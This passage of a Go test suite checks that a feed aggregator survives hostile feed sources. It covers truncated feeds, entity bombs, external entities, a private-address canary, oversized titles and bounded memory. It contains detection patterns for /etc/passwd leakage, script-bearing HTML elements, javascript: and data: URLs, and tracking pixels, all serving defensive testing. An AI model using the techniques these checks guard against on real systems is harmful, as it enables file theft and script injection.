				t.Errorf("bad source line %q does not say it failed", r.line)
			}
			if tc.failed && !regexp.MustCompile(`msg="source failed" source=bad status=failed .*`+regexp.QuoteMeta(strings.TrimSpace(tc.want))).MatchString(errOut) {
				t.Errorf("no failure log line with the reason for the bad source:\n%s", errOut)
			}
			if got := sourceLine(out, "good"); got != "good: new (2 new, 0 updated, 0 unchanged)" {
				t.Errorf("good source line %q, want it fetched in full", got)
			}

			r.outputs, r.feeds = buildAll(t, ctx, conf)
			for name, f := range r.feeds {
				assertHasTitles(t, name, f, goodTitles("good"))
			}
			checkPublished(t, r.outputs, r.feeds)
			assertNoPasswd(t, "fetch output", out+errOut)
			assertStoreHasNoPasswd(t, dir)
			if tc.check != nil {
				tc.check(t, h, r)
			}
			checkMemory(t)
		})
	}
}

// TestTruncatedFetchLeavesNoDuplicate fetches a feed cut in the middle of
// an item, then the whole feed: the story the cut hid is published once,
// complete, and no truncated copy of it stays behind.
func TestTruncatedFetchLeavesNoDuplicate(t *testing.T) {
	const whole = `<item><title>One</title><link>http://example.com/one</link><description>First.</description></item>
<item><title>Two is a long title</title><link>http://example.com/two</link><description>Second.</description></item>`
	for _, cut := range []string{"long title", "example.com/two", "Second."} {
		t.Run("cut before "+cut, func(t *testing.T) {
			full := rssDoc("Cut", whole)
			var served sync.Mutex
			body := full[:strings.Index(full, cut)]
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				served.Lock()
				defer served.Unlock()
				w.Header().Set("Content-Type", "application/rss+xml")
				io.WriteString(w, body)
				body = full // the next fetch gets the whole document
			}))
			t.Cleanup(srv.Close)
			conf, _ := writeHostileConfig(t, "127.0.0.1:0", "", []hostileSource{{name: "cut", url: srv.URL + "/feed"}})
			ctx := context.Background()
			code, out, errOut := runCmd(t, ctx, "--config", conf, "fetch")
			if code != exitOK || !strings.Contains(out, "cut: new (1 new, 0 updated, 0 unchanged)") {
				t.Fatalf("truncated fetch: exit %d\n%s%s", code, out, errOut)
			}
			if code, out, errOut = runCmd(t, ctx, "--config", conf, "fetch"); code != exitOK {
				t.Fatalf("whole fetch: exit %d\n%s%s", code, out, errOut)
			}
			_, parsed := buildAll(t, ctx, conf)
			for name, f := range parsed {
				var titles []string
				for _, it := range f.Items {
					titles = append(titles, it.Title)
				}
				slices.Sort(titles)
				if want := []string{"One", "Two is a long title"}; !slices.Equal(titles, want) {
					t.Errorf("%s: titles %q, want %q", name, titles, want)
				}
			}
		})
	}
}

// TestDaemonAmongHostileSourcesKeepsPublishing runs `serve` pointed at every
// hostile source at once plus two good ones, with the default worker and
// per-host limits, and checks that the good stories are published, every
// bad source is logged with its reason, the private canary is never
// reached, memory stays bounded, and shutdown is clean.
func TestDaemonAmongHostileSourcesKeepsPublishing(t *testing.T) {
	h := newHostile(t)
	srcs := []hostileSource{
		{name: "good-alpha", url: goodServer(t, "alpha")},
		{name: "good-beta", url: goodServer(t, "beta")},
	}
	var cases []hostileCase
	for _, tc := range hostileCases() {
		if tc.allowPrivate {
			continue
		}
		cases = append(cases, tc)
		srcs = append(srcs, hostileSource{name: tc.name, url: tc.url(h), fulltext: tc.fulltext})
	}
	addr := freeAddr(t)
	conf, _ := writeHostileConfig(t, addr, "", srcs)

	var logs syncBuffer
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan int, 1)
	go func() { done <- run(ctx, []string{"--config", conf, "serve"}, io.Discard, &logs) }()

	peak := sampleMemory(t)
	outcomes := regexp.MustCompile(`msg="source (failed|fetched)"`)
	want := append(goodTitles("alpha"), goodTitles("beta")...)
	var (
		outputs map[string][]byte
		parsed  map[string]*gofeed.Feed
	)
	deadline := time.Now().Add(45 * time.Second)
	for {
		if len(outcomes.FindAllString(logs.String(), -1)) >= len(srcs) {
			outputs, parsed = getFeeds(addr)
			if parsed != nil && hasAllTitles(parsed, want) {
				break
			}
		}
		if time.Now().After(deadline) {
			cancel()
			t.Fatalf("the daemon did not publish the good stories and an outcome for all %d sources in time; log:\n%s", len(srcs), logs.String())
		}
		time.Sleep(100 * time.Millisecond)
	}
	log := logs.String()
	timedOut := "request exceeded timeout of " + hostileTimeout
	for _, tc := range cases {
		line := regexp.MustCompile(`.*msg="source (?:failed|fetched)" source=` + tc.name + ` .*`).FindString(log)
		switch {
		case !tc.failed:
			if !strings.Contains(line, `msg="source fetched"`) {
				t.Errorf("%s: not logged as fetched: %s", tc.name, line)
			}
		case !strings.Contains(line, `msg="source failed"`):
			t.Errorf("%s: not logged as failed: %s", tc.name, line)
		case strings.Contains(line, strings.TrimSpace(tc.want)):
		case strings.Contains(line, timedOut):
			// All these sources share one host name, and so its two
			// request slots, with the ones that never finish: a redirect
			// hop or a slow inflate can run out of time waiting. The exact
			// reasons are proven one source at a time above.
			t.Logf("%s: timed out under contention rather than %q", tc.name, tc.want)
		default:
			t.Errorf("%s: logged without its reason %q: %s", tc.name, tc.want, line)
		}
	}
	for _, s := range srcs[:2] {
		if !strings.Contains(log, `msg="source fetched" source=`+s.name+` status=new`) {
			t.Errorf("good source %s not logged as fetched", s.name)
		}
	}
	if n := h.hitCount("canary", ""); n != 0 {
		t.Errorf("the private canary origin received %d requests; the address policy should have refused them all", n)
	}
	checkPublished(t, outputs, parsed)
	assertNoPasswd(t, "daemon log", log)

	cancel()
	select {
	case code := <-done:
		if code != exitOK {
			t.Errorf("serve exit %d after shutdown; log:\n%s", code, logs.String())
		}
	case <-time.After(40 * time.Second):
		t.Fatalf("serve did not shut down; log:\n%s", logs.String())
	}
	heap, sys := peak()
	t.Logf("peak heap in use %d MiB, sys %d MiB", heap>>20, sys>>20)
	if heap > heapBound || sys > sysBound {
		t.Errorf("memory not bounded: peak heap in use %d MiB (bound %d), sys %d MiB (bound %d)", heap>>20, heapBound>>20, sys>>20, sysBound>>20)
	}
}

// sourceLine returns the line of `tributary fetch` output about source.
func sourceLine(out, source string) string {
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, source+": ") {
			return l
		}
	}
	return ""
}

// buildAll runs `tributary build` and returns the combined feed in every
// format, raw and parsed.
func buildAll(t *testing.T, ctx context.Context, conf string) (map[string][]byte, map[string]*gofeed.Feed) {
	t.Helper()
	out := t.TempDir()
	if code, stdout, stderr := runCmd(t, ctx, "--config", conf, "build", "--out", out); code != exitOK {
		t.Fatalf("build exit %d: %s %s", code, stdout, stderr)
	}
	raw := map[string][]byte{}
	parsed := map[string]*gofeed.Feed{}
	for _, name := range []string{"all.rss", "all.atom", "all.json"} {
		b, err := os.ReadFile(filepath.Join(out, name))
		if err != nil {
			t.Fatal(err)
		}
		f, err := gofeed.NewParser().ParseString(string(b))
		if err != nil {
			t.Fatalf("%s does not parse: %v", name, err)
		}
		raw[name], parsed[name] = b, f
	}
	return raw, parsed
}

// getFeeds fetches the combined feed from a running daemon in every format;
// parsed is nil until all three parse.
func getFeeds(addr string) (raw map[string][]byte, parsed map[string]*gofeed.Feed) {
	raw, parsed = map[string][]byte{}, map[string]*gofeed.Feed{}
	client := &http.Client{Timeout: 10 * time.Second}
	for _, name := range []string{"all.rss", "all.atom", "all.json"} {
		resp, err := client.Get("http://" + addr + "/feeds/" + name)
		if err != nil {
			return nil, nil
		}
		b, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil || resp.StatusCode != http.StatusOK {
			return nil, nil
		}
		f, err := gofeed.NewParser().ParseString(string(b))
		if err != nil {
			return nil, nil
		}
		raw[name], parsed[name] = b, f
	}
	return raw, parsed
}

func hasAllTitles(parsed map[string]*gofeed.Feed, titles []string) bool {
	for _, f := range parsed {
		have := map[string]bool{}
		for _, it := range f.Items {
			have[it.Title] = true
		}
		for _, w := range titles {
			if !have[w] {
				return false
			}
		}
	}
	return true
}

func assertHasTitles(t *testing.T, name string, f *gofeed.Feed, titles []string) {
	t.Helper()
	have := map[string]bool{}
	for _, it := range f.Items {
		have[it.Title] = true
	}
	for _, w := range titles {
		if !have[w] {
			t.Errorf("%s lacks the good story %q", name, w)
		}
	}
}

var yearOneRe = regexp.MustCompile(`\b0001-\d\d-\d\d|\b\d\d? [A-Z][a-z]{2} 0001\b`)

// earliest is the first date any published item may carry: the sources
// refuse older ones and fall back to the time they first saw the story.
var earliest = time.Date(1995, 1, 1, 0, 0, 0, 0, time.UTC)

// checkPublished asserts what must hold of any published output: valid
// UTF-8, no year-1 (or pre-1995) dates, safe HTML in every item, no
// /etc/passwd.
func checkPublished(t *testing.T, outputs map[string][]byte, parsed map[string]*gofeed.Feed) {
	t.Helper()
	for name, b := range outputs {
		if !utf8.Valid(b) {
			t.Errorf("%s is not valid UTF-8", name)
		}
		if m := yearOneRe.Find(b); m != nil {
			t.Errorf("%s carries a year-1 date: %q", name, m)
		}
		assertNoPasswd(t, name, string(b))
	}
	for name, f := range parsed {
		for _, it := range f.Items {
			for _, d := range []*time.Time{it.PublishedParsed, it.UpdatedParsed} {
				if d != nil && d.Before(earliest) {
					t.Errorf("%s: item %q dated %s", name, it.Title, d)
				}
			}
			if strings.Contains(strings.ToLower(it.Title), "<script") {
				t.Errorf("%s: item title carries a script: %q", name, it.Title)
			}
			where := name + ": " + it.Title
			// A JSON Feed summary is plain text by the specification (the
			// renderer writes PlainText of the stored HTML); the other
			// formats carry HTML there.
			if !strings.HasSuffix(name, ".json") {
				assertSafeHTML(t, where, it.Description)
			}
			assertSafeHTML(t, where, it.Content)
			assertSafeURL(t, where+" link", it.Link)
			for _, l := range it.Links {
				assertSafeURL(t, where+" link", l)
			}
			if it.Image != nil {
				assertSafeURL(t, where+" image", it.Image.URL)
			}
			for _, e := range it.Enclosures {
				assertSafeURL(t, where+" enclosure", e.URL)
			}
			for _, a := range it.Authors {
				if a != nil {
					assertSafeURL(t, where+" author", a.Email)
				}
			}
		}
	}
}

// passwdNeedles returns strings from /etc/passwd that must never be
// published.
func passwdNeedles(t *testing.T) []string {
	t.Helper()
	needles := []string{"root:x:0:0", "root:*:0:0"}
	if b, err := os.ReadFile("/etc/passwd"); err == nil {
		first, _, _ := strings.Cut(string(b), "\n")
		if first = strings.TrimSpace(first); len(first) > 8 {
			needles = append(needles, first)
		}
	}
	return needles
}

func assertNoPasswd(t *testing.T, where, s string) {
	t.Helper()
	for _, n := range passwdNeedles(t) {
		if strings.Contains(s, n) {
			t.Errorf("%s contains /etc/passwd content %q", where, n)
		}
	}
}

// assertStoreHasNoPasswd greps the raw SQLite files for /etc/passwd.
func assertStoreHasNoPasswd(t *testing.T, dir string) {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(dir, "test.db*"))
	if len(files) == 0 {
		t.Fatalf("no store files in %s", dir)
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		assertNoPasswd(t, "store file "+filepath.Base(f), string(b))
	}
}

// forbiddenElements must not survive sanitizing.
var forbiddenElements = map[string]bool{
	"script": true, "iframe": true, "object": true, "embed": true, "applet": true, "param": true,
	"form": true, "input": true, "button": true, "textarea": true, "select": true,
	"style": true, "link": true, "meta": true, "base": true, "frame": true, "frameset": true,
	"svg": true, "math": true,
}

// urlAttrs carry URLs a browser may load or navigate to.
var urlAttrs = map[string]bool{
	"href": true, "src": true, "srcset": true, "poster": true, "action": true, "formaction": true,
	"data": true, "background": true, "cite": true, "longdesc": true, "xlink:href": true, "lowsrc": true,
	"dynsrc": true, "usemap": true,
}

// dangerousURL reports whether a URL attribute value runs code or embeds a
// document, as a browser would read it (whitespace and controls inside the
// scheme are ignored).
func dangerousURL(v string) bool {
	v = strings.Map(func(r rune) rune {
		if r <= ' ' {
			return -1
		}
		return r
	}, strings.ToLower(v))
	return strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "vbscript:") || strings.HasPrefix(v, "data:")
}

// unsafeHTML parses s as an HTML fragment, as a feed reader would, and
// returns one problem for everything that could run code, submit data,
// embed a foreign document or track the reader.
func unsafeHTML(s string) []string {
	if strings.TrimSpace(s) == "" {
		return nil
	}
	nodes, err := html.ParseFragment(strings.NewReader(s), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return []string{fmt.Sprintf("does not parse as HTML: %v", err)}
	}
	var problems []string
	report := func(format string, args ...any) { problems = append(problems, fmt.Sprintf(format, args...)) }
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if forbiddenElements[n.Data] || n.Namespace != "" {
				report("keeps a <%s %s> element", n.Namespace, n.Data)
			}
			var width, height string
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if a.Namespace != "" {
					key = a.Namespace + ":" + key
				}
				switch {
				case strings.HasPrefix(key, "on"):
					report("<%s> keeps event handler %s=%q", n.Data, key, a.Val)
				case key == "srcdoc":
					report("<%s> keeps srcdoc", n.Data)
				case key == "style" && dangerousStyle.MatchString(a.Val):
					report("<%s> keeps style %q", n.Data, a.Val)
				case key == "srcset":
					for _, cand := range strings.Split(a.Val, ",") {
						if f := strings.Fields(cand); len(f) > 0 && dangerousURL(f[0]) {
							report("<%s> keeps srcset candidate %q", n.Data, f[0])
						}
					}
				case urlAttrs[key] && dangerousURL(a.Val):
					report("<%s> keeps %s=%q", n.Data, key, a.Val)
				case key == "width":
					width = a.Val
				case key == "height":
					height = a.Val
				}
				if n.Data == "img" && (key == "src" || key == "srcset") && strings.Contains(a.Val, "tracker.example") {
					report("keeps tracking pixel %q", a.Val)
				}
			}
			if n.Data == "img" && (tiny(width) || tiny(height)) {
				report("<img width=%q height=%q> is a tracking pixel", width, height)
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return problems
}

var dangerousStyle = regexp.MustCompile(`(?i)expression|javascript|url\(|behavior`)

// assertSafeHTML fails for every problem unsafeHTML finds in s.
func assertSafeHTML(t *testing.T, where, s string) {
	t.Helper()
	for _, p := range unsafeHTML(s) {
		t.Errorf("%s: published content %s", where, p)
	}
}

// assertSafeURL fails when a published URL runs code.
func assertSafeURL(t *testing.T, where, u string) {
	t.Helper()
	if dangerousURL(u) {
		t.Errorf("%s: published URL %q", where, u)
	}
}

// tiny reports whether an image dimension is at most one pixel.
func tiny(v string) bool {
	v = strings.TrimSuffix(strings.TrimSpace(v), "px")
	n, err := strconv.Atoi(v)
	return err == nil && n <= 1
}

func checkMemory(t *testing.T) {
	t.Helper()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	if m.HeapInuse > heapBound || m.Sys > sysBound {
		t.Errorf("memory not bounded: heap in use %d MiB (bound %d), sys %d MiB (bound %d)", m.HeapInuse>>20, heapBound>>20, m.Sys>>20, sysBound>>20)
	}
}

// sampleMemory samples the heap every 20ms until the test ends and returns
// a function reporting the peak heap in use and the process's Sys.
func sampleMemory(t *testing.T) func() (heap, sys uint64) {
	t.Helper()
	var (
		mu   sync.Mutex
		peak uint64
		stop = make(chan struct{})
		wg   sync.WaitGroup
	)
	read := func() {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		mu.Lock()
		peak = max(peak, m.HeapInuse)
		mu.Unlock()
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		tick := time.NewTicker(20 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-stop:
				return
			case <-tick.C:
				read()
			}
		}
	}()
	var once sync.Once
	halt := func() { once.Do(func() { close(stop); wg.Wait() }) }
	t.Cleanup(halt)
	return func() (uint64, uint64) {
		halt()
		read()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		mu.Lock()
		defer mu.Unlock()
		return peak, m.Sys
	}
}

// Case checks.

func all(checks ...func(*testing.T, *hostile, *hostileResult)) func(*testing.T, *hostile, *hostileResult) {
	return func(t *testing.T, h *hostile, r *hostileResult) {
		t.Helper()
		for _, c := range checks {
			c(t, h, r)
		}
	}
}

// checkRetryAfter asserts that the failure is deferred for as long as the
// server asked: the fetch line and the stored state say so, and a scheduled
// (non-forced) run does not contact the server again.
func checkRetryAfter(serverPath string, wait time.Duration) func(*testing.T, *hostile, *hostileResult) {
	return func(t *testing.T, h *hostile, r *hostileResult) {
		t.Helper()
		// RFC 3339 in the line has whole seconds, the HTTP date too.
		earliest := r.start.Add(wait).Add(-2 * time.Second)
		m := regexp.MustCompile(`\(next attempt after (\S+)\)$`).FindStringSubmatch(r.line)
		if m == nil {
			t.Fatalf("line %q does not say when the next attempt is", r.line)
		}
		next, err := time.Parse(time.RFC3339, m[1])
		if err != nil {
			t.Fatal(err)
		}
		if next.Before(earliest) {
			t.Errorf("next attempt %s is sooner than the Retry-After allows (%s)", next, earliest)
		}

		ctx := context.Background()
		st, err := sqlite.Open(ctx, filepath.Join(r.dir, "test.db"))
		if err != nil {
			t.Fatal(err)
		}
		defer st.Close()
		state, err := st.SourceState(ctx, "bad")
		if err != nil {
			t.Fatal(err)
		}
		if state.NextAttempt.Before(earliest) || state.Failures != 1 {
			t.Errorf("stored state: next attempt %s (want after %s), %d failures", state.NextAttempt, earliest, state.Failures)
		}
		before := h.hitCount("hostile", serverPath)
		client := fetch.New(fetch.Options{Timeout: 2 * time.Second})
		defer client.Close()
		runner := &pipeline.Runner{Doer: client, Store: st}
		out := runner.Run(ctx, pipeline.Source{Source: sources.Source{Name: "bad", URL: h.url(serverPath)}}, false)
		if out.Status != pipeline.StatusDeferred {
			t.Errorf("a scheduled run during Retry-After: status %q (%s), want deferred", out.Status, out)
		}
		if after := h.hitCount("hostile", serverPath); after != before {
			t.Errorf("the server was contacted again during Retry-After (%d -> %d requests)", before, after)
		}
	}
}

// checkNoExpansion asserts that an entity bomb was not expanded anywhere.
func checkNoExpansion(expanded string) func(*testing.T, *hostile, *hostileResult) {
	return func(t *testing.T, h *hostile, r *hostileResult) {
		t.Helper()
		for name, b := range r.outputs {
			if bytes.Contains(b, []byte(expanded)) {
				t.Errorf("%s contains expanded entity text %q", name, expanded)
			}
		}
		files, _ := filepath.Glob(filepath.Join(r.dir, "test.db*"))
		for _, f := range files {
			if b, _ := os.ReadFile(f); bytes.Contains(b, []byte(expanded)) {
				t.Errorf("store file %s contains expanded entity text", filepath.Base(f))
			}
		}
	}
}

// checkStoredSize asserts that the store's files and each output hold at
// most limit bytes.
func checkStoredSize(limit int64) func(*testing.T, *hostile, *hostileResult) {
	return func(t *testing.T, h *hostile, r *hostileResult) {
		t.Helper()
		files, _ := filepath.Glob(filepath.Join(r.dir, "test.db*"))
		if len(files) == 0 {
			t.Fatalf("no store files in %s: nothing to measure", r.dir)
		}
		var stored int64
		for _, f := range files {
			fi, err := os.Stat(f)
			if err != nil {
				t.Fatal(err)
			}
			stored += fi.Size()
		}
		if len(r.outputs) == 0 {
			t.Fatal("no outputs built: nothing to measure")
		}
		if stored > limit {
			t.Errorf("the store's files hold %d bytes, want at most %d", stored, limit)
		}
		for name, b := range r.outputs {
			if int64(len(b)) > limit {
				t.Errorf("%s is %d bytes, want at most %d", name, len(b), limit)
			}
		}
	}
}

// checkNoExternalEntities asserts that no external entity was loaded: the
// canary saw no request and the items kept their own text.
func checkNoExternalEntities(t *testing.T, h *hostile, r *hostileResult) {
	t.Helper()
	if n := h.hitCount("canary", ""); n != 0 {
		t.Errorf("an external entity was fetched: the canary saw %d requests", n)
	}
	checkTitles("Passwd in title", "XInclude")(t, h, r)
}

// checkTitles asserts the bad source's items carry exactly these titles
// (in any order) in every format.
func checkTitles(titles ...string) func(*testing.T, *hostile, *hostileResult) {
	return func(t *testing.T, h *hostile, r *hostileResult) {
		t.Helper()
		want := slices.Sorted(slices.Values(titles))
		for name, items := range r.badItems() {
			var got []string
			for _, it := range items {
				got = append(got, it.Title)
			}
			if slices.Sort(got); !slices.Equal(got, want) {
				t.Errorf("%s: titles %q, want %q", name, got, want)
			}
		}
	}
}

func checkItemCount(n int) func(*testing.T, *hostile, *hostileResult) {
	return func(t *testing.T, h *hostile, r *hostileResult) {
		t.Helper()
		for name, items := range r.badItems() {
			if len(items) != n {
				t.Errorf("%s has %d items of the bad source, want %d", name, len(items), n)
			}
		}
	}
}

// checkFirstSeenDates asserts that items whose dates are impossible are
// dated when they were first seen.
func checkFirstSeenDates(t *testing.T, h *hostile, r *hostileResult) {
	t.Helper()
	lo, hi := r.start.Truncate(time.Second), time.Now().Add(time.Second)
	for name, items := range r.badItems() {
		if len(items) != 8 {
			t.Errorf("%s has %d dated items, want 8", name, len(items))
		}
		for _, it := range items {
			if it.PublishedParsed == nil && it.UpdatedParsed == nil {
				t.Errorf("%s: %q has no date at all", name, it.Title)
			}
			for _, d := range []*time.Time{it.PublishedParsed, it.UpdatedParsed} {
				if d != nil && (d.Before(lo) || d.After(hi)) {
					t.Errorf("%s: %q dated %s, want its first-seen time (%s to %s)", name, it.Title, d, lo, hi)
				}
			}
		}
	}
}

// checkBareItems asserts that items without title, link or guid are kept
// with a stable, non-empty id, and that empty items are dropped.
func checkBareItems(t *testing.T, h *hostile, r *hostileResult) {
	t.Helper()
	for name, items := range r.badItems() {
		if len(items) != 3 {
			t.Errorf("%s has %d bare items, want 3", name, len(items))
		}
		ids := map[string]bool{}
		for _, it := range items {
			if strings.TrimSpace(it.GUID) == "" {
				t.Errorf("%s: item %q published without an id", name, it.Description)
			}
			if ids[it.GUID] {
				t.Errorf("%s: id %q used twice", name, it.GUID)
			}
			ids[it.GUID] = true
		}
	}
	// The ids are stable: building again gives the same ones.
	ctx := context.Background()
	_, again := buildAll(t, ctx, filepath.Join(r.dir, "config.yaml"))
	for name, f := range again {
		for i, it := range f.Items {
			if prev := r.feeds[name].Items[i]; prev.GUID != it.GUID {
				t.Errorf("%s: item %d id changed between builds: %q -> %q", name, i, prev.GUID, it.GUID)
			}
		}
	}
}

// checkTitleLength asserts that megabyte titles are published truncated.
func checkTitleLength(t *testing.T, h *hostile, r *hostileResult) {
	t.Helper()
	for name, items := range r.badItems() {
		if len(items) != 3 {
			t.Errorf("%s has %d items, want 3", name, len(items))
		}
		for _, it := range items {
			if n := utf8.RuneCountInString(it.Title); n > 1000 || !strings.HasPrefix(it.Title, "Huge title ") {
				t.Errorf("%s: title of %d runes starting %.40q, want at most 1000", name, n, it.Title)
			}
		}
	}
	for name, b := range r.outputs {
		if len(b) > 1<<20 {
			t.Errorf("%s is %d bytes: the megabyte titles were not truncated", name, len(b))
		}
	}
}

// checkSafeContent asserts that the bad item whose title contains title
// kept its safe content (wants) while its hostile markup was removed:
// every item passes unsafeHTML in checkPublished.
func checkSafeContent(title string, wants ...string) func(*testing.T, *hostile, *hostileResult) {
	return func(t *testing.T, h *hostile, r *hostileResult) {
		t.Helper()
		for name, items := range r.badItems() {
			var it *gofeed.Item
			for _, i := range items {
				if strings.Contains(i.Title, title) {
					it = i
				}
			}
			if it == nil {
				t.Errorf("%s: no item titled %q among %d", name, title, len(items))
				continue
			}
			body := it.Description + it.Content
			for _, want := range wants {
				if name == "all.json" && strings.HasPrefix(want, "<") && !strings.Contains(it.Content, "<") {
					continue // a JSON Feed summary is plain text
				}
				if !strings.Contains(body, want) {
					t.Errorf("%s: the safe content %q was lost:\n%s", name, want, body)
				}
			}
			if strings.ContainsAny(it.Title, "<>") {
				t.Errorf("%s: title %q carries markup", name, it.Title)
			}
		}
	}
}

// checkCanary asserts how many requests the private canary saw for path.
func checkCanary(path string, want int) func(*testing.T, *hostile, *hostileResult) {
	return func(t *testing.T, h *hostile, r *hostileResult) {
		t.Helper()
		if got := h.hitCount("canary", path); got != want {
			t.Errorf("the private canary saw %d requests for %s, want %d", got, path, want)
		}
	}
}

// checkLog asserts that one log line holds every part.
func checkLog(parts ...string) func(*testing.T, *hostile, *hostileResult) {
	return func(t *testing.T, h *hostile, r *hostileResult) {
		t.Helper()
		for _, l := range strings.Split(r.stderr, "\n") {
			ok := true
			for _, p := range parts {
				ok = ok && strings.Contains(l, p)
			}
			if ok {
				return
			}
		}
		t.Errorf("no log line with %q:\n%s", parts, r.stderr)
	}
}
